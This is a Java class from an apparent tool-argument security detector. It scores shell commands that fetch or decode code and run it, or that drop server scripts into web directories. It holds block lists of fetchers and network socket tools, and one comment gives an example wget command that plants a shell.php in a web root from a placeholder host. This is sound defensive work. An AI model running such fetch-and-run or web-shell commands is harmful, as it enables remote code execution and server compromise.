package dev.keeptrail.detectors.toolargument.command;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/** What is fetched, or unpacked, and run: over a pipe, through a file, inside an interpreter. */
final class Fetching {
  static final Set<String> SHELLS =
      Set.of("sh", "bash", "zsh", "dash", "ksh", "ash", "csh", "fish");

  private static final Set<String> FETCHERS =
      Set.of("curl", "wget", "fetch", "aria2c", "lwp-download", "invoke-webrequest", "iwr", "irm");

  private static final Set<String> SOCKETS = Set.of("nc", "ncat", "netcat", "telnet");

  private static final Set<String> DECODERS =
      Set.of(
          "base64",
          "base32",
          "xxd",
          "tr",
          "rev",
          "openssl",
          "gunzip",
          "zcat",
          "printf",
          "uudecode");

  private static final Set<String> RUNNERS =
      Set.of("python", "python2", "python3", "perl", "ruby", "php", "node", "source", ".");

  private static final int MAX_FILES = 16;

  private final List<String> fetched = new ArrayList<>();
  private boolean doubtful;

  /** Judges the commands of a script in their order. */
  double score(Pipeline pipeline, int index) {
    Command command = pipeline.commands().get(index);
    double piped = index > 0 ? piped(pipeline, index, command) : given(command);
    return Math.max(piped, Math.max(files(command), sourced(command)));
  }

  private static double piped(Pipeline pipeline, int index, Command command) {
    boolean shell = SHELLS.contains(command.program());
    boolean runs = shell || RUNNERS.contains(command.program());
    if (!runs || !readsCode(command)) {
      return 0;
    }
    double score = 0;
    for (Command before : pipeline.before(index)) {
      boolean fetches = FETCHERS.contains(before.program()) || SOCKETS.contains(before.program());
      boolean decodes = DECODERS.contains(before.program()) && shell;
      score = Math.max(score, fetches ? 0.92 : decodes ? 0.85 : 0);
    }
    return score;
  }

  /** {@code sh}, {@code sh -s x} and {@code python3 -}: not a script of its own with data. */
  private static boolean readsCode(Command command) {
    List<String> words = command.arguments();
    return words.isEmpty()
        || words.getFirst().startsWith("-s")
        || words.getFirst().equals("-")
        || (SHELLS.contains(command.program()) && words.stream().allMatch(w -> w.startsWith("-")));
  }

  /** A here-string that a program decodes for a shell is read by the next; this one reads it. */
  private static double given(Command command) {
    return SHELLS.contains(command.program()) && runsFetched(command.input()) ? 0.9 : 0;
  }

  private static double sourced(Command command) {
    boolean runs =
        SHELLS.contains(command.program())
            || RUNNERS.contains(command.program())
            || command.program().equals("eval");
    return runs && command.arguments().stream().anyMatch(Fetching::runsFetched) ? 0.9 : 0;
  }

  private static boolean runsFetched(String word) {
    boolean inner =
        word.startsWith("<(")
            || word.startsWith("$(")
            || word.startsWith("`")
            || word.startsWith("(");
    return inner && (word.contains("curl ") || word.contains("wget "));
  }

  /** Remembers what is fetched into files, and tells when one of them is run. */
  private double files(Command command) {
    if (FETCHERS.contains(command.program())) {
      remember(command);
      return served(command);
    }
    List<String> own = Wrappers.unwrapped(command.words());
    boolean itself = !own.isEmpty() && isFetched(own.getFirst());
    boolean interpreted =
        (SHELLS.contains(command.program()) || RUNNERS.contains(command.program()))
            && command.arguments().stream().anyMatch(this::isFetched);
    if (command.program().equals("mv") || command.program().equals("cp")) {
      return 0;
    }
    boolean open = !fetched.isEmpty() && !own.isEmpty() && Places.isOpen(own.getFirst());
    if (open) {
      return 0.85;
    }
    boolean shell = SHELLS.contains(command.program()) || itself;
    return (itself || interpreted) && (doubtful || shell) ? (doubtful ? 0.9 : 0.75) : 0;
  }

  /** {@code wget http://host/shell.php -O /var/www/html/s.php}. */
  private static double served(Command command) {
    boolean page =
        command.line().contains("/www/")
            || command.line().contains("/htdocs/")
            || command.line().contains("/public_html/");
    boolean program =
        command.operands().stream()
            .anyMatch(
                word -> word.endsWith(".php") || word.endsWith(".jsp") || word.endsWith(".aspx"));
    return page && program ? 0.8 : 0;
  }

  private void remember(Command command) {
    List<String> words = command.arguments();
    for (int i = 0; i < words.size(); i++) {
      String word = words.get(i);
      if (Places.isUrl(word) && fetched.size() < MAX_FILES) {
        fetched.add(Command.baseName(word));
        doubtful |= Places.isDoubtful(word);
      }
      if ((word.equals("-o") || word.equals("-outfile"))
          && i + 1 < words.size()
          && fetched.size() < MAX_FILES) {
        fetched.add(Command.baseName(words.get(i + 1)));
        doubtful |=
            Places.isOpen(words.get(i + 1)) && Command.baseName(words.get(i + 1)).startsWith(".");
      }
    }
    command.writes().stream()
        .filter(_ -> fetched.size() < MAX_FILES)
        .map(Command::baseName)
        .forEach(fetched::add);
  }

  private boolean isFetched(String word) {
    return word.length() > 1 && fetched.contains(Command.baseName(word));
  }
}
